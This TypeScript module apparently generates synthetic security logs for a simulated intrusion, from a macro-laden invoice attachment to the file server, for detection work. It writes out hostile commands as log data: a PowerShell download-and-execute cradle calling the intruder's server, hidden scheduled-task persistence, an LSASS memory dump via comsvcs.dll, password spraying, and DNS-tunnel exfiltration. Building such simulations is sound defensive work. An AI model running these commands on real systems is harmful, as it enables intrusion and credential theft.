/** The intrusion, first day: from a mail attachment to the file server. `demo/README.md` tells it. */
import { account, DC, FILES, INTRUDER, MARTA, PEOPLE } from './company.ts';
import { at, Chance, type StoryEvent } from './event.ts';
import { dns, proxy, rpc } from './network.ts';
import {
  CMD,
  evtxJson,
  office,
  POWERSHELL,
  type Program,
  system32,
  Windows,
  type WindowsEvent,
  winlogbeat,
} from './windows.ts';

const SEED = 20260310;
const EXPLORER = 'C:\\Windows\\explorer.exe';
const FOLDER = `C:\\Users\\${MARTA.user}\\AppData\\Roaming\\Larkview`;
const ME = account(MARTA.user);
const SYSTEM = 'NT AUTHORITY\\SYSTEM';

const STAGE = `$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://${INTRUDER.server}/lv/stage.ps1'))`;
const base64 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const TASK = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Triggers><TimeTrigger><Repetition><Interval>PT30M</Interval></Repetition></TimeTrigger></Triggers>
  <Settings><Hidden>true</Hidden></Settings>
  <Actions><Exec><Command>powershell.exe</Command><Arguments>-w hidden -File ${FOLDER}\\sync.ps1</Arguments></Exec></Actions>
</Task>`;

/** Steps whose names recur in the tests and in README.md. */
export function firstDay(): StoryEvent[] {
  const chance = new Chance(SEED);
  const windows = new Windows(chance);
  const events: StoryEvent[] = [];
  const desk = (step: string, event: WindowsEvent): void => {
    events.push({ file: 'workstations', time: event.time, step, write: (n) => winlogbeat(event, n) });
  };
  const server = (step: string, event: WindowsEvent): void => {
    events.push({ file: 'servers', time: event.time, step, write: (n) => evtxJson(event, n) });
  };
  const run = (step: string, time: number, program: Program, commandLine: string, parent = POWERSHELL.image): void => {
    desk(step, windows.start(MARTA.host, time, { program, commandLine, parent, user: ME }));
  };
  const word = office('WINWORD', 'Microsoft Word');
  const cache = `C:\\Users\\${MARTA.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2Q8Z1VD`;

  // Initial access and execution.
  const outlook = office('OUTLOOK', 'Microsoft Outlook').image;
  desk(
    'attachment',
    windows.file(MARTA.host, at(1, '09:14:05.2'), outlook, `${cache}\\Calibration invoice 2231.docm`, ME),
  );
  run('document', at(1, '09:14:09.8'), word, `"${word.image}" /n "${cache}\\Calibration invoice 2231.docm"`, outlook);
  run('macro', at(1, '09:14:31.4'), POWERSHELL, `powershell.exe -w hidden -nop -enc ${base64(STAGE)}`, word.image);
  desk('stage', windows.script(MARTA.host, at(1, '09:14:33.1'), STAGE));
  events.push({
    file: 'proxy',
    time: at(1, '09:14:33.9'),
    step: 'download',
    write: proxy(at(1, '09:14:33.9'), {
      user: MARTA.user,
      client: MARTA.address,
      method: 'GET',
      host: INTRUDER.server,
      path: '/lv/stage.ps1',
      agent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.22621.4391',
      sent: 214,
      got: 48_211,
    }),
  });

  // Persistence.
  const runKey =
    'HKU\\S-1-5-21-1834022071-2210094451-1002345871-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Larkview';
  desk(
    'run key',
    windows.registry(MARTA.host, at(1, '09:16:02.7'), POWERSHELL.image, runKey, `"${FOLDER}\\larkview.exe"`, ME),
  );
  const schtasks = system32('schtasks.exe', 'Task Scheduler Configuration Tool');
  run(
    'task command',
    at(1, '09:17:20.1'),
    schtasks,
    `schtasks.exe /create /f /sc minute /mo 30 /tn Larkview /xml ${FOLDER}\\t.xml`,
  );
  desk('task', windows.task(MARTA.host, at(1, '09:17:20.6'), MARTA.user, '\\Larkview', TASK));

  // Discovery, typed by hand.
  const survey: [string, Program, string][] = [
    ['09:21:03', system32('whoami.exe', 'whoami - displays logged on user information'), 'whoami /all'],
    ['09:21:25', system32('ipconfig.exe', 'IP Configuration Utility'), 'ipconfig /all'],
    ['09:22:10', system32('net.exe', 'Net Command'), 'net group "Domain Admins" /domain'],
    [
      '09:23:02',
      system32('nltest.exe', 'Microsoft Logon Server Test Utility', 'nltestrk.exe'),
      'nltest /domain_trusts',
    ],
    ['09:24:40', system32('systeminfo.exe', 'Displays system information', 'sysinfo.exe'), 'systeminfo'],
  ];
  for (const [time, program, commandLine] of survey) run('survey', at(1, time), program, commandLine, CMD.image);

  // Credential access, with the antivirus out of the way.
  desk('protection off', windows.defender(MARTA.host, at(1, '09:58:12'), 5001, {}));
  const threat = {
    'Threat ID': '2147705511',
    'Threat Name': 'HackTool:Win64/Mikatz!pz',
    'Severity Name': 'High',
    'Category Name': 'Tool',
    'Detection User': ME,
    Path: `file:_${FOLDER}\\mk.exe`,
    'Process Name': POWERSHELL.image,
    'Action Name': 'Not Applicable',
  };
  desk('tool found', windows.defender(MARTA.host, at(1, '09:57:41'), 1116, threat));
  const rundll = system32('rundll32.exe', 'Windows host process (Rundll32)', 'RUNDLL32.EXE');
  const dump = `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 748 ${FOLDER}\\d.bin full`;
  run('dump command', at(1, '10:02:33'), rundll, dump);
  const trace = ['ntdll.dll+9d4c4', 'KERNELBASE.dll+2c13e', 'comsvcs.dll+2bbd0'].map(
    (part) => `C:\\Windows\\System32\\${part}`,
  );
  desk(
    'memory read',
    windows.opened(
      MARTA.host,
      at(1, '10:02:33.6'),
      rundll.image,
      'C:\\Windows\\system32\\lsass.exe',
      '0x1fffff',
      trace.join('|'),
    ),
  );
  const services = ['svc-sql', 'svc-backup', 'svc-web', 'svc-print', 'svc-scan', 'svc-calib'];
  services.forEach((service, i) => {
    const time = at(1, `10:20:${10 + 4 * i}`);
    server('weak tickets', windows.ticket(DC.host, time, MARTA.user, service, MARTA.address, '0x17'));
  });
  PEOPLE.filter((person) => person !== MARTA).forEach((person, i) => {
    const time = at(1, `10:${41 + i}:17`);
    server('spraying', windows.logonFailed(DC.host, time, person.user, MARTA.address));
  });

  // Lateral movement to the file server.
  const copied = at(1, '11:30:08.2');
  const admin = 'svc-backup';
  server('logon to server', windows.logon(FILES.host, at(1, '11:30:07.7'), admin, 3, MARTA.address));
  server(
    'program copied',
    windows.shareAccess(FILES.host, copied, admin, MARTA.address, '\\\\*\\ADMIN$', 'lvsync.exe', true),
  );
  const call = at(1, '11:30:09.0');
  events.push({
    file: 'zeek',
    time: call,
    step: 'service call',
    write: rpc(chance, call, MARTA.address, FILES.address, 'svcctl', 'CreateServiceW'),
  });
  server('service installed', windows.service(FILES.host, at(1, '11:30:09.3'), 'LvSync', '%SystemRoot%\\lvsync.exe'));
  const shell = {
    program: CMD,
    commandLine: 'cmd.exe',
    parent: 'C:\\Windows\\lvsync.exe',
    user: SYSTEM,
    integrity: 'System',
  } as const;
  server('shell on server', windows.start(FILES.host, at(1, '11:31:15'), shell));

  // Collection and a first exfiltration, in names asked of the DNS.
  const packer: Program = {
    image: 'C:\\Program Files\\7-Zip\\7z.exe',
    original: '7z.exe',
    description: '7-Zip Console',
    company: 'Igor Pavlov',
  };
  const pack = '7z.exe a -mhe=on -pL4rk!field C:\\Windows\\Temp\\~d01.7z D:\\Shares\\Engineering\\Probe-X';
  const packed = { program: packer, commandLine: pack, parent: CMD.image, user: SYSTEM, integrity: 'System' } as const;
  server('archive', windows.start(FILES.host, at(1, '14:10:26'), packed));
  for (let i = 0; i < 30; i++) {
    const time = at(1, '14:25:00') + 6000 * i;
    const name = `${chance.text(52, 'abcdefghijklmnopqrstuvwxyz234567')}.${i}.t.sensor-metrics.example`;
    events.push({ file: 'zeek', time, step: 'tunnel', write: dns(chance, time, FILES.address, name, 'TXT', ['"ok"']) });
  }
  events.push(...beacons(chance, windows));
  events.push(desktopStart(windows));
  return events;
}

/** Traffic of the implant, which no rule sees: the story is not only what is found. */
function beacons(chance: Chance, windows: Windows): StoryEvent[] {
  const events: StoryEvent[] = [];
  for (let time = at(1, '09:20:00'); time < at(1, '18:00:00'); time += 1_200_000 + chance.between(0, 300_000)) {
    const image = `${FOLDER}\\larkview.exe`;
    const event = windows.connection(MARTA.host, time, image, ME, MARTA.address, INTRUDER.server, 443);
    events.push({ file: 'workstations', time, step: 'beacon', write: (n) => winlogbeat(event, n) });
  }
  return events;
}

function desktopStart(windows: Windows): StoryEvent {
  const program: Program = {
    image: `${FOLDER}\\larkview.exe`,
    original: 'larkview.exe',
    description: 'Larkview Sync',
    company: 'Larkview',
  };
  const event = windows.start(MARTA.host, at(2, '08:01:12'), {
    program,
    commandLine: program.image,
    parent: EXPLORER,
    user: ME,
  });
  return { file: 'workstations', time: event.time, step: 'implant at logon', write: (n) => winlogbeat(event, n) };
}
